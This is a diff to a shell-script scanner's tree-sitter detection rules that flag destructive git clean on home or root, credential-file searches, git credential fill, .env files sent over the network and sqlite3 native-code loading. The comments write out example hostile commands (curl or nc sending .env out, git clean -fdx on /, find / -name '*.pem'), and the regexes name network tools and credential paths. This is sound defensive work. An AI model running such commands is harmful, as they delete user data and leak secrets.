@@ -82,6 +82,27 @@
  (#set! severity "high")
  (#set! message "runs a program it does not name, recursively or with options it does not name, on the home or root directory"))
 
+; cd ~ || exit; git init -q .; git clean -ffdx: the home or root directory
+; made the working directory (then a work tree), and git clean -x or -d
+; removing every file git does not track, which is all of them; git -C ~
+; clean -fdx, git --work-tree=/ clean -fdx likewise
+((_ [(command) @cd (list . (command) @cd)] [(command) @n (list (command) @n)]) @finding
+ (#match? @n "\\sclean\\s(.*\\s)?-[a-zA-Z]*[xXd]")
+ (#match? @cd "^(cd|pushd)\\s+(--\\s+)?(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s*$")
+ (#resolves-to? @cd "cd|pushd")
+ (#resolves-to? @n "git")
+ (#match? @n "\\sclean\\s(.*\\s)?(-[a-zA-Z]*f|--force)")
+ (#set! id "sh-destructive")
+ (#set! severity "high")
+ (#set! message "goes to the home or root directory and removes every file git does not track there (git clean)"))
+
+((command) @n @finding
+ (#resolves-to? @n "git")
+ (#match? @n "^(\\S*/)?git\\s+(.*\\s)?(-C\\s+|--work-tree[=\\s])(~/?|\"?\\$\\{?HOME\\}?\"?/?|/+)\\s(.*\\s)?clean\\s(.*\\s)?-[a-zA-Z]*[xXd]")
+ (#set! id "sh-destructive")
+ (#set! severity "high")
+ (#set! message "removes every file git does not track in the home or root directory (git clean)"))
+
 ; find / -delete
 ((command argument: (_)* @target @act) @n @finding
  (#resolves-to? @n "find")
@@ -177,7 +198,16 @@
 ; for secrets (key patterns, key files by name)
 ((command argument: (_) @pat) @n @finding
  (#resolves-to? @n "[ezf]?grep|zgrep|rg|ag|ack|find|locate|plocate|mlocate")
- (#value-match? @pat "AKIA\\[|ASIA\\[|BEGIN ([A-Z]+ )?PRIVATE KEY|ghp_|github_pat_|xox\\[?[abprs]|sk_live_|^\\*\\.(pem|key|p12|pfx|kdbx|ppk|jks|keystore|gpg)$|^\\*?id_(rsa|dsa|ecdsa|ed25519)?\\*$|^(credentials|\\.env|\\.netrc|\\.pgpass|\\.git-credentials)$")
+ (#value-match? @pat "AKIA\\[|ASIA\\[|BEGIN ([A-Z]+ )?PRIVATE KEY|ghp_|github_pat_|xox\\[?[abprs]|sk_live_")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "searches the machine for secrets (key patterns, key files by name)"))
+
+; find / -name '*.pem', locate id_rsa: key files searched for by name (a
+; file grep reads, grep KEY .env, is not a search for it)
+((command argument: (_) @pat) @n @finding
+ (#resolves-to? @n "find|locate|plocate|mlocate|fd|fdfind")
+ (#value-match? @pat "^\\*\\.(pem|key|p12|pfx|kdbx|ppk|jks|keystore|gpg)$|^\\*?id_(rsa|dsa|ecdsa|ed25519)?\\*$|^(credentials|\\.env|\\.netrc|\\.pgpass|\\.git-credentials)$")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "searches the machine for secrets (key patterns, key files by name)"))
@@ -207,7 +237,7 @@
 
 ; ~/.ssh, $HOME/.aws, /etc/shadow, id_rsa, .netrc, /proc/self/environ... in a word or a quoted string (a comment is neither)
 ([(word) (raw_string) (string) (ansi_c_string) (concatenation)] @finding
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|env)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
  (#not-parent-type? @finding "concatenation")
  (#set! id "sh-credentials")
  (#set! severity "high")
@@ -216,11 +246,54 @@
 ; "$dir/..." whose whole does not fold: the constant piece
 ([(concatenation [(word) (raw_string) (string) (ansi_c_string)] @finding)
   (string (string_content) @finding)] @whole
- (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|env)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
- (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|env)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#value-match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
+ (#not-value-match? @whole "(^|[/\\s=:])\\.ssh(?![\\w.-])|(^|[/\\s=:])\\.aws(?![\\w.-])|/etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/(self|[0-9]+|\\$\\$)/environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets")
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
+
+; git credential fill: the password or token git's credential helper
+; stored, printed
+((command) @n @finding
+ (#resolves-to? @n "git")
+ (#match? @n "\\scredential(\\s+fill|-(store|cache|osxkeychain|libsecret|manager)\\s+get)(\\s|$)")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "asks git's credential helper for a stored password or token (git credential fill)"))
+
+; A project's .env: a script that sources it (set -a; . ./.env) or names
+; it in a message configures itself; one that gives it to a network client
+; (curl -F f=@.env, nc h < .env, cat .env | curl -d @- u, curl -d "$(cat
+; .env)" u) sends its secrets out; --exclude .env keeps it out
+((command argument: (_) @f) @n @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#value-match? @f "(^|[/\\s=:@<\"'])\\.env(?![\\w.-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a .env file, where a project keeps its secrets, over the network"))
+
+((command) @n @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#not-match? @n "--exclude")
+ (#match? @n "(^|[/\\s=:@<\"'])\\.env(?![\\w.-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a .env file, where a project keeps its secrets, over the network"))
+
+((redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @f)) @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#value-match? @f "(^|[/\\s=:@<\"'])\\.env(?![\\w.-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a .env file, where a project keeps its secrets, over the network"))
+
+((pipeline) @finding
+ (#not-match? @finding "--exclude")
+ (#match? @finding "(^|[/\\s=:@<\"'])\\.env(?![\\w.-])")
+ (#contains-call? @finding "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a .env file, where a project keeps its secrets, over the network"))
 
 ; ---- the environment ----
 
@@ -255,6 +328,16 @@
  (#set! severity "warn")
  (#set! message "prints every exported or declared variable, where secrets usually are"))
 
+; data=$(cat .env), b=$(base64 -w0 < .env): a .env's whole text read
+; into the program, an environment dump of its own (sh-env-exfil, high,
+; when the program also talks to the network); a key picked out of it
+; (grep '^KEY=' .env) or the file sourced is not
+((command_substitution) @finding
+ (#match? @finding "^\\$\\(\\s*(\\S*/)?(cat|base64|base32|xxd|od|hexdump|gzip|bzip2|xz|zstd|tar|zip|openssl|tac|rev)\\s[^|)]*\\.env(?![\\w.-])[^|)]*(\\||\\))|^\\$\\(\\s*<\\s*\\S*\\.env\\s*\\)")
+ (#set! id "sh-env-dump")
+ (#set! severity "warn")
+ (#set! message "reads a whole .env file, where a project keeps its secrets, into the program"))
+
 ; ---- native code ----
 
 ; LD_PRELOAD=/tmp/x.so cmd, export LD_PRELOAD=..., LD_AUDIT: a library loaded
@@ -280,3 +363,14 @@
  (#set! id "sh-native-code")
  (#set! severity "high")
  (#set! message "runs native code through the dynamic loader or loads a kernel module"))
+
+; sqlite3 db '.load ./x', SELECT load_extension('x'): a shared object
+; loaded into sqlite3
+([(command argument: (_) @code)
+  (redirected_statement body: (command) @n redirect: (heredoc_redirect (heredoc_body) @code))
+  (command redirect: (herestring_redirect) @code)] @n @finding
+ (#resolves-to? @n "sqlite3?")
+ (#value-match? @code "(^|\\n|;)\\s*\\.load\\s|(?i)\\bload_extension\\s*\\(")
+ (#set! id "sh-native-code")
+ (#set! severity "high")
+ (#set! message "loads a shared object as native code into sqlite3 (.load, load_extension)"))
